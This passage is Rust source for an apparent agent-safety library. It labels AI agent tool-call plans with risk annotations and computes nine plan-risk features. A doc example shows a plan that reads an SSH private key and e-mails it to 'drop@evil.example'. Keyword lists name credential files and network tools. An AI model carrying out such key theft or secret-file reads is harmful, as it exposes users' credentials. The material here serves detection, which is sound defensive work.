//! Plan annotation and the 9 NEXUS plan features.
//!
//! Real agents emit a tool name and arguments, not NEXUS's hand annotations. The
//! [`ToolAnnotator`] fills every missing annotation of a [`Step`] — irreversible, sensitive,
//! network, permissions, estimated cost, endpoints — from the tool name and arguments with a
//! default lexicon, overridden per tool by a user-supplied [`ToolCatalog`]. Annotations given on
//! the step always win. [`plan_features`] then computes the 9-D vector in the NEXUS order
//! ([`PLAN_FEATURES`], schema [`plan_schema`]).
//!
//! ```
//! use vigil_contracts::{from_json_str, Plan};
//! use vigil_features::plan::{plan_features, ToolAnnotator, Action};
//!
//! let plan: Plan = from_json_str(r#"{"budget": 10, "steps": [
//!     {"tool": "read_file", "args": {"path": "/home/me/.ssh/id_rsa"}},
//!     {"tool": "send_email", "args": {"to": "drop@evil.example", "body": "see attached"}}]}"#).unwrap();
//! let annotator = ToolAnnotator::default();
//! let steps = annotator.annotate_plan(&plan);
//! assert!(steps[0].sensitive && !steps[0].network);
//! assert_eq!(steps[1].action, Action::Send);
//! assert!(steps[1].irreversible && steps[1].network);
//! assert_eq!(steps[1].endpoints, vec!["drop@evil.example".to_string()]);
//! let x = plan_features(&plan, &steps);
//! assert_eq!(x[0], 2.0); // num_steps
//! assert_eq!(x[8], 1.0); // external_endpoint_count
//! ```
//!
//! ## Design choices (NEXUS does not publish its feature code)
//!
//! - **permission** = a `domain:action` scope (`email:send`, `files:delete`, `iam:grant`);
//!   `permissions_required` counts unique scopes over the plan.
//! - **cost** is in the unit of the plan's `budget`: a transfer counts the money it moves (its
//!   `amount`), every other step a nominal per-action cost ([`action_cost`]), cloud provisioning
//!   ×10 and ×`count` when it creates several resources. `budget_utilisation` is 0 without a budget
//!   (no limit was set) and uses a budget of 0 as "no spending allowed" (utilisation = cost / 1e-9,
//!   capped at 1e6).
//! - **endpoints** are URL hosts and e-mail addresses, lower-cased, unique over the plan; loopback
//!   and `.local`/`.internal` hosts are not external and are not counted.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use vigil_contracts::{FeatureSchema, Plan, Step};

use crate::{Error, Result};

/// The 9 NEXUS plan features, in order.
pub const PLAN_FEATURES: [&str; 9] = [
    "num_steps",
    "has_irreversible",
    "has_sensitive",
    "has_network",
    "num_distinct_tools",
    "permissions_required",
    "est_total_cost",
    "budget_utilisation",
    "external_endpoint_count",
];

/// The fingerprinted schema of [`plan_features`].
pub fn plan_schema() -> FeatureSchema {
    FeatureSchema::new(
        "nexus-plan",
        1,
        PLAN_FEATURES.iter().map(|s| (*s).to_owned()).collect(),
    )
}

/// What a step does, as inferred from its tool name (and HTTP method).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Action {
    /// Reads, lists, searches.
    Read,
    /// Creates or changes something that can be changed back.
    Write,
    /// Sends, posts or publishes content to someone else.
    Send,
    /// Deletes, drops, terminates, revokes.
    Delete,
    /// Moves money.
    Transfer,
    /// Grants access, unlocks, shares, changes permissions.
    Grant,
    /// Runs code or commands.
    Execute,
    /// Nothing recognisable.
    Other,
}

impl Action {
    /// Lower-case name (`send`, `delete`, ...).
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Read => "read",
            Action::Write => "write",
            Action::Send => "send",
            Action::Delete => "delete",
            Action::Transfer => "transfer",
            Action::Grant => "grant",
            Action::Execute => "execute",
            Action::Other => "other",
        }
    }

    /// Actions whose effect cannot be undone by the agent.
    pub fn is_irreversible(self) -> bool {
        matches!(
            self,
            Action::Send | Action::Delete | Action::Transfer | Action::Grant | Action::Execute
        )
    }
}

/// A step with every annotation filled in.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct StepAnnotation {
    /// Inferred (or catalogued) action.
    pub action: Action,
    /// Inferred (or catalogued) resource domain: `email`, `files`, `shell`, `payments`, `home`,
    /// `cloud`, `crm`, `social`, `db`, `web`, `calendar`, `iam` or `other`.
    pub domain: String,
    /// The step cannot be undone.
    pub irreversible: bool,
    /// The step touches sensitive data.
    pub sensitive: bool,
    /// The step makes an external network call.
    pub network: bool,
    /// Permission scopes (`domain:action`), unique, sorted.
    pub permissions: Vec<String>,
    /// Estimated cost in the budget's unit.
    pub estimated_cost: f64,
    /// External endpoints (hosts, e-mail addresses), unique, sorted.
    pub endpoints: Vec<String>,
    /// The tool name's lower-case tokens ([`tool_tokens`]), kept for the rules.
    #[serde(skip)]
    pub tokens: Vec<String>,
}

/// One catalogued tool: any field given overrides the lexicon for that tool.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CatalogEntry {
    /// Action class.
    #[serde(default)]
    pub action: Option<Action>,
    /// Resource domain.
    #[serde(default)]
    pub domain: Option<String>,
    /// Irreversible.
    #[serde(default)]
    pub irreversible: Option<bool>,
    /// Sensitive.
    #[serde(default)]
    pub sensitive: Option<bool>,
    /// Makes network calls.
    #[serde(default)]
    pub network: Option<bool>,
    /// Permission scopes.
    #[serde(default)]
    pub permissions: Option<Vec<String>>,
    /// Per-call cost.
    #[serde(default)]
    pub estimated_cost: Option<f64>,
    /// Fixed endpoints the tool contacts.
    #[serde(default)]
    pub endpoints: Option<Vec<String>>,
}

/// A user-supplied tool catalog: `{"tools": {"<tool name>": {<CatalogEntry>}}}`.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ToolCatalog {
    /// Entries by exact tool name.
    pub tools: BTreeMap<String, CatalogEntry>,
}

impl ToolCatalog {
    /// Parses and validates a catalog; errors name the offending field
    /// (`tools.ship.estimated_cost: -1 must be ...`).
    pub fn from_json(text: &str) -> Result<Self> {
        let catalog: ToolCatalog =
            vigil_contracts::from_json_str(text).map_err(|e| Error::InvalidParam {
                param: "catalog".into(),
                value: vigil_contracts::text::ellipsize(text, 60),
                reason: e.to_string(),
            })?;
        for (name, entry) in &catalog.tools {
            if let Some(c) = entry.estimated_cost
                && !(c.is_finite() && c >= 0.0)
            {
                return Err(Error::InvalidParam {
                    param: format!("catalog tools.{name}.estimated_cost"),
                    value: c.to_string(),
                    reason: "must be a finite number ≥ 0".into(),
                });
            }
            if name.trim().is_empty() {
                return Err(Error::InvalidParam {
                    param: "catalog tools".into(),
                    value: format!("{name:?}"),
                    reason: "tool names must not be empty".into(),
                });
            }
        }
        Ok(catalog)
    }
}

/// Fills missing step annotations: step fields, then the catalog, then the lexicon.
#[derive(Debug, Clone, Default)]
pub struct ToolAnnotator {
    catalog: ToolCatalog,
}

impl ToolAnnotator {
    /// An annotator using `catalog` before the default lexicon.
    pub fn with_catalog(catalog: ToolCatalog) -> Self {
        ToolAnnotator { catalog }
    }

    /// The catalog in use.
    pub fn catalog(&self) -> &ToolCatalog {
        &self.catalog
    }

    /// Annotates every step of a plan.
    pub fn annotate_plan(&self, plan: &Plan) -> Vec<StepAnnotation> {
        plan.steps.iter().map(|s| self.annotate(s)).collect()
    }

    /// Annotates one step.
    pub fn annotate(&self, step: &Step) -> StepAnnotation {
        let entry = self.catalog.tools.get(&step.tool);
        let tokens = tool_tokens(&step.tool);
        let scan = ArgScan::of(&step.args);

        let action = entry
            .and_then(|e| e.action)
            .unwrap_or_else(|| infer_action(&tokens, &step.args));
        let domain = entry
            .and_then(|e| e.domain.clone())
            .unwrap_or_else(|| infer_domain(&tokens, &scan).to_owned());

        let endpoints = match (&step.endpoints, entry.and_then(|e| e.endpoints.as_ref())) {
            (Some(given), _) => normalise_endpoints(given.iter().cloned()),
            (None, Some(cat)) => normalise_endpoints(cat.iter().cloned().chain(scan.endpoints())),
            (None, None) => normalise_endpoints(scan.endpoints()),
        };
        let network = step
            .network
            .or(entry.and_then(|e| e.network))
            .unwrap_or_else(|| {
                !endpoints.is_empty()
                    || tokens.iter().any(|t| NETWORK_TOKENS.contains(&t.as_str()))
                    || (action == Action::Send
                        && matches!(domain.as_str(), "email" | "social" | "web"))
                    // Anything written to a social platform is published outside.
                    || (domain == "social" && action != Action::Read)
            });
        let irreversible = step
            .irreversible
            .or(entry.and_then(|e| e.irreversible))
            .unwrap_or_else(|| {
                action.is_irreversible()
                    || tokens
                        .iter()
                        .any(|t| IRREVERSIBLE_TOKENS.contains(&t.as_str()))
            });
        let sensitive = step
            .sensitive
            .or(entry.and_then(|e| e.sensitive))
            .unwrap_or_else(|| {
                domain == "payments"
                    || tokens
                        .iter()
                        .any(|t| SENSITIVE_TOKENS.contains(&t.as_str()))
                    || scan.sensitive
            });
        let permissions = match (
            &step.permissions,
            entry.and_then(|e| e.permissions.as_ref()),
        ) {
            (Some(p), _) | (None, Some(p)) => {
                let set: BTreeSet<String> = p.iter().map(|s| s.trim().to_lowercase()).collect();
                set.into_iter().filter(|s| !s.is_empty()).collect()
            }
            (None, None) => vec![format!("{domain}:{}", action.as_str())],
        };
        let estimated_cost = step
            .estimated_cost
            .or(entry.and_then(|e| e.estimated_cost))
            .unwrap_or_else(|| estimate_cost(action, &domain, &step.args));

        StepAnnotation {
            action,
            domain,
            irreversible,
            sensitive,
            network,
            permissions,
            estimated_cost,
            endpoints,
            tokens,
        }
    }
}

/// The 9 NEXUS features of an annotated plan, in [`PLAN_FEATURES`] order.
pub fn plan_features(plan: &Plan, steps: &[StepAnnotation]) -> [f64; 9] {
    let mut tools = BTreeSet::new();
    let mut perms = BTreeSet::new();
    let mut endpoints = BTreeSet::new();
    let (mut irr, mut sens, mut net, mut cost) = (false, false, false, 0.0f64);
    for (step, a) in plan.steps.iter().zip(steps) {
        tools.insert(step.tool.as_str());
        perms.extend(a.permissions.iter().map(String::as_str));
        endpoints.extend(a.endpoints.iter().map(String::as_str));
        irr |= a.irreversible;
        sens |= a.sensitive;
        net |= a.network;
        cost += a.estimated_cost;
    }
    let cost = if cost.is_finite() {
        cost.min(1e12)
    } else {
        1e12
    };
    let utilisation = match plan.budget {
        None => 0.0,
        Some(b) if b > 0.0 => (cost / b).min(1e6),
        Some(_) if cost > 0.0 => 1e6,
        Some(_) => 0.0,
    };
    [
        plan.steps.len() as f64,
        f64::from(u8::from(irr)),
        f64::from(u8::from(sens)),
        f64::from(u8::from(net)),
        tools.len() as f64,
        perms.len() as f64,
        cost,
        utilisation,
        endpoints.len() as f64,
    ]
}

/// Nominal per-call cost of an action (the default cost model).
pub fn action_cost(action: Action) -> f64 {
    match action {
        Action::Read => 0.01,
        Action::Write | Action::Delete | Action::Grant | Action::Other => 0.02,
        Action::Send => 0.05,
        Action::Execute => 0.1,
        Action::Transfer => 0.5,
    }
}

fn estimate_cost(action: Action, domain: &str, args: &serde_json::Map<String, Value>) -> f64 {
    let mut cost = action_cost(action);
    if action == Action::Transfer {
        if let Some(amount) = number_arg(args, &["amount", "value", "total", "price", "sum"]) {
            let qty = number_arg(args, &["quantity", "qty"]).unwrap_or(1.0);
            cost += amount.abs() * qty.abs().max(1.0);
        }
    }
    if domain == "cloud" && matches!(action, Action::Write | Action::Execute) {
        let count = number_arg(args, &["count", "instances", "replicas", "nodes", "size"])
            .unwrap_or(1.0)
            .clamp(1.0, 1e6);
        cost *= 10.0 * count;
    }
    if cost.is_finite() { cost } else { 1e12 }
}

fn number_arg(args: &serde_json::Map<String, Value>, keys: &[&str]) -> Option<f64> {
    keys.iter().find_map(|k| match args.get(*k)? {
        Value::Number(n) => n.as_f64(),
        Value::String(s) => s
            .trim()
            .trim_start_matches(['$', '€', '£'])
            .replace(',', "")
            .parse::<f64>()
            .ok(),
        _ => None,
    })
}

/// Splits a tool name into lower-case tokens on `_ - . / : space` and camelCase boundaries.
pub fn tool_tokens(tool: &str) -> Vec<String> {
    if tool.is_ascii() {
        return ascii_tool_tokens(tool.as_bytes());
    }
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut prev_lower = false;
    for ch in tool.chars() {
        if ch.is_alphanumeric() {
            if ch.is_uppercase() && prev_lower && !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            prev_lower = ch.is_lowercase() || ch.is_ascii_digit();
            cur.extend(ch.to_lowercase());
        } else {
            if !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            prev_lower = false;
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Byte-level fast path of [`tool_tokens`] for ASCII names (the usual case).
fn ascii_tool_tokens(b: &[u8]) -> Vec<String> {
    let mut out = Vec::with_capacity(4);
    let mut start = None;
    let mut prev_lower = false;
    let push = |from: usize, to: usize, out: &mut Vec<String>| {
        let mut t = String::with_capacity(to - from);
        t.extend(
            b[from..to]
                .iter()
                .map(|c| char::from(c.to_ascii_lowercase())),
        );
        out.push(t);
    };
    for (i, &c) in b.iter().enumerate() {
        if c.is_ascii_alphanumeric() {
            match start {
                Some(s) if c.is_ascii_uppercase() && prev_lower => {
                    push(s, i, &mut out);
                    start = Some(i);
                }
                None => start = Some(i),
                _ => {}
            }
            prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        } else {
            if let Some(s) = start.take() {
                push(s, i, &mut out);
            }
            prev_lower = false;
        }
    }
    if let Some(s) = start {
        push(s, b.len(), &mut out);
    }
    out
}

const DELETE: &[&str] = &[
    "delete",
    "del",
    "remove",
    "rm",
    "drop",
    "truncate",
    "destroy",
    "purge",
    "wipe",
    "erase",
    "unlink",
    "terminate",
    "kill",
    "revoke",
    "cancel",
    "uninstall",
    "format",
    "deprovision",
    "archive",
];
const TRANSFER: &[&str] = &[
    "transfer", "pay", "payment", "payout", "wire", "withdraw", "refund", "charge", "purchase",
    "buy", "sell", "checkout", "trade", "swap", "donate", "remit", "money", "funds", "venmo",
    "zelle",
];
const GRANT: &[&str] = &[
    "grant",
    "unlock",
    "share",
    "attach",
    "chmod",
    "chown",
    "sudo",
    "elevate",
    "promote",
    "authorize",
    "authorise",
    "permission",
    "permissions",
    "role",
    "roles",
    "disarm",
    "collaborator",
    "acl",
];
const EXECUTE: &[&str] = &[
    "execute",
    "exec",
    "run",
    "shell",
    "bash",
    "sh",
    "zsh",
    "powershell",
    "eval",
    "terminal",
    "command",
    "cmd",
    "script",
    "deploy",
    "invoke",
    "kubectl",
    "python",
    "node",
    "subprocess",
    "system",
];
const SEND: &[&str] = &[
    "send",
    "email",
    "mail",
    "post",
    "publish",
    "tweet",
    "reply",
    "forward",
    "message",
    "notify",
    "sms",
    "upload",
    "webhook",
    "comment",
    "dm",
    "broadcast",
    "invite",
    "submit",
    "push",
    "retweet",
    "announce",
];
const WRITE: &[&str] = &[
    "write",
    "create",
    "update",
    "edit",
    "set",
    "put",
    "modify",
    "save",
    "insert",
    "add",
    "rename",
    "move",
    "mv",
    "copy",
    "cp",
    "append",
    "schedule",
    "book",
    "turn",
    "lock",
    "close",
    "adjust",
    "start",
    "stop",
    "restart",
    "scale",
    "launch",
    "provision",
    "patch",
    "assign",
    "mark",
    "tag",
    "label",
    "merge",
    "commit",
    "mkdir",
    "touch",
    "dim",
    "configure",
    "enable",
    "disable",
    "arm",
    "record",
    "draft",
];
const READ: &[&str] = &[
    "read",
    "get",
    "list",
    "ls",
    "fetch",
    "search",
    "query",
    "view",
    "show",
    "find",
    "lookup",
    "download",
    "browse",
    "open",
    "cat",
    "describe",
    "check",
    "summarize",
    "summarise",
    "load",
    "scan",
    "inspect",
    "status",
    "retrieve",
    "lookup",
    "count",
    "head",
    "tail",
    "grep",
    "select",
    "navigate",
    "visit",
    "watch",
    "preview",
    "print",
    "stat",
    "weather",
    "translate",
    "calculate",
    "curl",
    "wget",
    "http",
    "request",
    "scrape",
    "export",
    "dump",
];

fn infer_action(tokens: &[String], args: &serde_json::Map<String, Value>) -> Action {
    // HTTP-style tools: the method decides.
    if let Some(Value::String(m)) = args.get("method") {
        match m.to_ascii_uppercase().as_str() {
            "GET" | "HEAD" | "OPTIONS" => return Action::Read,
            "POST" | "PUT" | "PATCH" => return Action::Send,
            "DELETE" => return Action::Delete,
            _ => {}
        }
    }
    let has = |list: &[&str]| tokens.iter().any(|t| list.contains(&t.as_str()));
    // A draft is not sent: "create_draft", "draft_reply" are reversible writes.
    if has(&["draft", "drafts"]) {
        return Action::Write;
    }
    // Shell-like tools: a read-only command line is a read, whatever the tool is called.
    if has(EXECUTE) || tokens.iter().any(|t| t == "git") {
        if let Some(cmd) = command_text(args) {
            if is_read_only_command(&cmd) {
                return Action::Read;
            }
        }
    }
    // Priority: the most consequential reading wins ("send_payment" is a transfer).
    for (list, action) in [
        (TRANSFER, Action::Transfer),
        (DELETE, Action::Delete),
        (GRANT, Action::Grant),
        (EXECUTE, Action::Execute),
        (SEND, Action::Send),
        (WRITE, Action::Write),
        (READ, Action::Read),
    ] {
        if has(list) {
            // "read_message"/"get_email"/"list_posts": a read verb with a send noun is a read.
            if action == Action::Send
                && has(&[
                    "read",
                    "get",
                    "list",
                    "fetch",
                    "search",
                    "view",
                    "show",
                    "find",
                    "retrieve",
                    "check",
                    "preview",
                    "count",
                    "summarize",
                    "summarise",
                    "translate",
                    "analyze",
                    "analyse",
                    "draft",
                ])
                && !has(&["send", "reply", "forward", "publish"])
            {
                return Action::Read;
            }
            return action;
        }
    }
    Action::Other
}

/// The command line of a shell-like step (`command`, `cmd`, `script`, or `args` as a list).
fn command_text(args: &serde_json::Map<String, Value>) -> Option<String> {
    for key in ["command", "cmd", "script", "args", "argv"] {
        match args.get(key) {
            Some(Value::String(s)) => return Some(s.clone()),
            Some(Value::Array(a)) => {
                let parts: Vec<&str> = a.iter().filter_map(Value::as_str).collect();
                return Some(parts.join(" "));
            }
            _ => {}
        }
    }
    None
}

const READ_ONLY_COMMANDS: &[&str] = &[
    "ls", "cat", "head", "tail", "grep", "rg", "find", "wc", "df", "du", "top", "ps", "pwd",
    "whoami", "uptime", "free", "stat", "file", "echo", "date", "which", "env", "uname", "tree",
    "less", "sort", "uniq", "cut", "awk", "jq", "xargs", "diff", "hostname", "id", "lsblk",
];

/// Every stage of the pipeline is a known read-only command (or `kubectl get/top/describe/logs`,
/// `git status/log/diff/show`), with no redirection, substitution or chaining.
pub fn is_read_only_command(cmd: &str) -> bool {
    let c = cmd.trim();
    if c.is_empty() || c.contains(['>', ';', '&', '`']) || c.contains("$(") {
        return false;
    }
    c.split('|').all(|stage| {
        let words: Vec<&str> = stage.split_whitespace().collect();
        match words.as_slice() {
            [] => false,
            ["kubectl", sub, ..] => matches!(*sub, "get" | "top" | "describe" | "logs" | "explain"),
            ["git", sub, ..] => matches!(*sub, "status" | "log" | "diff" | "show" | "branch"),
            ["find", rest @ ..] => !rest
                .iter()
                .any(|w| matches!(*w, "-delete" | "-exec" | "-execdir")),
            ["xargs", rest @ ..] => rest
                .first()
                .is_some_and(|w| READ_ONLY_COMMANDS.contains(w) && *w != "xargs"),
            [first, ..] => READ_ONLY_COMMANDS.contains(first),
        }
    })
}

const DOMAINS: &[(&str, &[&str])] = &[
    (
        "payments",
        &[
            "payment", "payments", "pay", "bank", "transfer", "wallet", "stripe", "paypal",
            "invoice", "card", "crypto", "wire", "venmo", "zelle", "payout", "refund", "charge",
            "purchase", "buy", "checkout", "trade", "btc", "eth",
        ],
    ),
    (
        "iam",
        &[
            "iam",
            "role",
            "roles",
            "permission",
            "permissions",
            "grant",
            "acl",
            "sudo",
            "user",
            "users",
            "admin",
            "collaborator",
            "group",
            "policy",
        ],
    ),
    (
        "shell",
        &[
            "shell",
            "bash",
            "terminal",
            "exec",
            "execute",
            "command",
            "cmd",
            "sh",
            "zsh",
            "powershell",
            "run",
            "script",
            "python",
            "subprocess",
            "system",
        ],
    ),
    (
        "email",
        &["email", "mail", "gmail", "outlook", "inbox", "smtp", "imap"],
    ),
    (
        "social",
        &[
            "twitter",
            "tweet",
            "retweet",
            "facebook",
            "linkedin",
            "slack",
            "discord",
            "social",
            "instagram",
            "reddit",
            "mastodon",
            "telegram",
            "whatsapp",
            "teams",
            "channel",
            "dm",
        ],
    ),
    (
        "home",
        &[
            "home",
            "light",
            "lights",
            "thermostat",
            "lock",
            "unlock",
            "door",
            "camera",
            "alarm",
            "garage",
            "device",
            "smart",
            "hue",
            "nest",
            "vacuum",
            "oven",
            "sprinkler",
            "disarm",
            "arm",
            "blinds",
            "appliance",
        ],
    ),
    (
        "cloud",
        &[
            "aws",
            "gcp",
            "azure",
            "s3",
            "bucket",
            "instance",
            "instances",
            "vm",
            "cluster",
            "k8s",
            "kubectl",
            "lambda",
            "cloud",
            "ec2",
            "pod",
            "pods",
            "container",
            "docker",
            "deployment",
            "gke",
            "eks",
            "terraform",
            "dns",
            "firewall",
            "vpc",
            "snapshot",
        ],
    ),
    (
        "crm",
        &[
            "crm",
            "salesforce",
            "hubspot",
            "contact",
            "contacts",
            "lead",
            "leads",
            "customer",
            "customers",
            "deal",
            "deals",
            "ticket",
            "tickets",
            "opportunity",
            "account",
            "zendesk",
        ],
    ),
    (
        "db",
        &[
            "sql", "db", "database", "table", "postgres", "mysql", "sqlite", "mongo", "redis",
            "record", "records", "row", "rows",
        ],
    ),
    (
        "calendar",
        &[
            "calendar",
            "event",
            "events",
            "meeting",
            "meetings",
            "appointment",
            "schedule",
        ],
    ),
    (
        "files",
        &[
            "file",
            "files",
            "fs",
            "disk",
            "directory",
            "dir",
            "folder",
            "path",
            "drive",
            "document",
            "documents",
            "doc",
            "docs",
            "rm",
            "mkdir",
            "cp",
            "mv",
            "cat",
            "dropbox",
            "attachment",
        ],
    ),
    (
        "web",
        &[
            "http", "https", "web", "browse", "browser", "url", "fetch", "curl", "wget", "api",
            "request", "webhook", "search", "page", "website", "navigate", "visit", "scrape",
        ],
    ),
];

/// The vocabulary that identifies a resource domain (empty for unknown domains).
pub fn domain_words(domain: &str) -> &'static [&'static str] {
    DOMAINS
        .iter()
        .find(|(d, _)| *d == domain)
        .map(|(_, w)| *w)
        .unwrap_or(&[])
}

fn infer_domain(tokens: &[String], scan: &ArgScan) -> &'static str {
    for (domain, words) in DOMAINS {
        if tokens.iter().any(|t| words.contains(&t.as_str())) {
            return domain;
        }
    }
    if scan.has_sql {
        "db"
    } else if scan.has_path {
        "files"
    } else if !scan.urls.is_empty() {
        "web"
    } else {
        "other"
    }
}

const NETWORK_TOKENS: &[&str] = &[
    "http", "https", "fetch", "curl", "wget", "webhook", "upload", "api", "request", "browse",
    "browser", "url", "download", "tweet", "slack", "post", "publish", "smtp", "ftp", "scp",
    "sftp", "rsync", "ssh", "navigate", "visit", "scrape",
];
const IRREVERSIBLE_TOKENS: &[&str] = &[
    "unlock", "publish", "disarm", "wipe", "send", "execute", "transfer", "grant",
];
const SENSITIVE_TOKENS: &[&str] = &[
    "password",
    "passwords",
    "credential",
    "credentials",
    "secret",
    "secrets",
    "token",
    "tokens",
    "keychain",
    "vault",
    "ssn",
    "medical",
    "health",
    "patient",
    "patients",
    "pii",
    "salary",
    "payroll",
    "passport",
    "bank",
    "iban",
    "card",
    "cvv",
    "diagnosis",
    "hr",
    "biometric",
    "private",
    "keys",
    "apikey",
    "wallet",
    "prescription",
];

/// Lower-case substrings that mark sensitive content in argument text.
const SENSITIVE_SUBSTRINGS: &[&str] = &[
    "password",
    "passwd",
    "credential",
    "secret",
    "api_key",
    "apikey",
    "api key",
    "access_key",
    "private key",
    "private_key",
    "id_rsa",
    "id_ed25519",
    "/.ssh",
    ".env",
    "/etc/shadow",
    ".aws/",
    ".kube/config",
    "keychain",
    "ssn",
    "social security",
    "credit card",
    "credit_card",
    "card_number",
    "cvv",
    "iban",
    "routing number",
    "bank",
    "date_of_birth",
    "tax_return",
    "tax return",
    "/taxes/",
    "tax id",
    "salary",
    "salaries",
    "payroll",
    "medical",
    "health record",
    "patient",
    "diagnos",
    "prescription",
    "passport",
    "driver license",
    "date of birth",
    "pii",
    "seed phrase",
    "mnemonic",
    "wallet.dat",
    "token",
    "session cookie",
];

/// What a pass over a step's argument values found (URLs, e-mails, paths, SQL, sensitive terms).
#[derive(Debug, Default)]
struct ArgScan {
    urls: Vec<String>,
    emails: Vec<String>,
    has_path: bool,
    has_sql: bool,
    sensitive: bool,
}

struct ScanRegexes {
    url: Regex,
    email: Regex,
    /// `[sql, sensitive]` in one pass per string.
    content: regex::RegexSet,
    sensitive: Regex,
}

const SQL_PATTERN: &str = r"(?i)(?-u:\b)(select\s[^;]*\sfrom|insert\s+into|update\s+\w+\s+set|delete\s+from|drop\s+(table|database)|truncate\s+table|grant\s+\w+)";

/// One case-insensitive literal alternation of [`SENSITIVE_SUBSTRINGS`].
fn sensitive_pattern() -> String {
    let alt: Vec<String> = SENSITIVE_SUBSTRINGS
        .iter()
        .map(|s| regex::escape(s))
        .collect();
    format!("(?i-u){}", alt.join("|"))
}

fn scan_regexes() -> &'static ScanRegexes {
    static R: OnceLock<ScanRegexes> = OnceLock::new();
    R.get_or_init(|| ScanRegexes {
        url: Regex::new(
            r#"(?i)\b(?:https?|ftp|wss?|sftp)://([^\s/:?#"'<>@]+@)?([a-z0-9.\-\[\]:_]+)"#,
        )
        .expect("url regex"),
        email: Regex::new(r"(?i)\b[a-z0-9._%+\-]+@[a-z0-9\-]+(?:\.[a-z0-9\-]+)+\b")
            .expect("email regex"),
        // One pass per string for SQL and sensitive terms; word boundaries ASCII-only so the
        // lazy DFA handles them.
        content: regex::RegexSet::new([SQL_PATTERN.to_owned(), sensitive_pattern()])
            .expect("content regexes"),
        sensitive: Regex::new(&sensitive_pattern()).expect("sensitive regex"),
    })
}

impl ArgScan {
    fn of(args: &serde_json::Map<String, Value>) -> Self {
        let mut scan = ArgScan::default();
        for (k, v) in args {
            if scan_regexes().sensitive.is_match(k) {
                scan.sensitive = true;
            }
            scan.visit(v);
        }
        scan
    }

    fn visit(&mut self, v: &Value) {
        for_each_string_in(v, &mut |s| self.text(s));
    }

    fn text(&mut self, s: &str) {
        let r = scan_regexes();
        if s.contains("://") {
            for c in r.url.captures_iter(s) {
                if let Some(h) = c.get(2) {
                    self.urls
                        .push(h.as_str().trim_end_matches('.').to_lowercase());
                }
            }
        }
        if s.contains('@') {
            for m in r.email.find_iter(s) {
                // Skip the user@ part of URLs, caught as hosts above.
                let before = &s[..m.start()];
                if !before.ends_with("//") {
                    self.emails.push(m.as_str().to_lowercase());
                }
            }
        }
        if s.starts_with('/') || s.starts_with("~/") || s.contains(":\\") || s.contains("/etc/") {
            self.has_path = true;
        }
        if !(self.sensitive && self.has_sql) {
            let m = r.content.matches(s);
            self.has_sql |= m.matched(0);
            self.sensitive |= m.matched(1);
        }
    }

    fn endpoints(&self) -> impl Iterator<Item = String> + '_ {
        self.urls.iter().chain(&self.emails).cloned()
    }
}

/// Lower-cases, drops internal hosts (loopback, `.local`, `.internal`), de-duplicates and sorts.
pub fn normalise_endpoints(items: impl IntoIterator<Item = String>) -> Vec<String> {
    let set: BTreeSet<String> = items
        .into_iter()
        .map(|e| e.trim().to_lowercase())
        .filter(|e| !e.is_empty() && is_external(e))
        .collect();
    set.into_iter().collect()
}

/// Whether an endpoint (host or e-mail address) is outside the local machine / network.
pub fn is_external(endpoint: &str) -> bool {
    let host = endpoint.rsplit('@').next().unwrap_or(endpoint);
    let host = host.split(':').next().unwrap_or(host);
    !(host == "localhost"
        || host.starts_with("127.")
        || host == "0.0.0.0"
        || host == "[::1]"
        || host.ends_with(".local")
        || host.ends_with(".internal")
        || host.ends_with(".localhost"))
}

/// Every URL host and e-mail address found in a text, lower-cased (used for grounding and
/// session memory).
pub fn endpoints_in_text(text: &str) -> Vec<String> {
    let mut scan = ArgScan::default();
    scan.text(text);
    scan.endpoints().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_contracts::from_json_str;

    fn step(json: &str) -> Step {
        from_json_str(json).unwrap()
    }

    #[test]
    fn tokens_split_snake_camel_and_dots() {
        assert_eq!(
            tool_tokens("gmail.sendMessage"),
            ["gmail", "send", "message"]
        );
        assert_eq!(tool_tokens("delete_file"), ["delete", "file"]);
        assert_eq!(tool_tokens("HTTP-Request"), ["http", "request"]);
        assert!(tool_tokens("").is_empty());
    }

    #[test]
    fn lexicon_annotates_common_tools() {
        let a = ToolAnnotator::default();
        let pay = a.annotate(&step(
            r#"{"tool": "transfer_funds", "args": {"amount": 250, "to_account": "GB29NWBK60161331926819"}}"#,
        ));
        assert_eq!(pay.action, Action::Transfer);
        assert_eq!(pay.domain, "payments");
        assert!(pay.irreversible && pay.sensitive);
        assert!((pay.estimated_cost - 250.5).abs() < 1e-9);
        assert_eq!(pay.permissions, ["payments:transfer"]);

        let read = a.annotate(&step(
            r#"{"tool": "list_files", "args": {"dir": "/home/me/docs"}}"#,
        ));
        assert_eq!(read.action, Action::Read);
        assert!(!read.irreversible && !read.sensitive && !read.network);
        assert_eq!(read.estimated_cost, 0.01);

        let hook = a.annotate(&step(
            r#"{"tool": "http_request", "args": {"method": "POST", "url": "https://hooks.example.com/x?a=1"}}"#,
        ));
        assert_eq!(hook.action, Action::Send);
        assert!(hook.network && hook.irreversible);
        assert_eq!(hook.endpoints, ["hooks.example.com"]);

        let unlock = a.annotate(&step(
            r#"{"tool": "smart_lock", "args": {"command": "unlock", "door": "front"}}"#,
        ));
        assert_eq!(unlock.domain, "home");

        let unknown = a.annotate(&step(r#"{"tool": "zorblax", "args": {}}"#));
        assert_eq!(unknown.action, Action::Other);
        assert_eq!(unknown.domain, "other");
        assert!(!unknown.irreversible && !unknown.network);
    }

    #[test]
    fn given_annotations_win_over_catalog_and_lexicon() {
        let catalog = ToolCatalog::from_json(
            r#"{"tools": {"send_email": {"irreversible": false, "estimated_cost": 3, "endpoints": ["smtp.corp.example"]}}}"#,
        )
        .unwrap();
        let a = ToolAnnotator::with_catalog(catalog);
        let s = a.annotate(&step(
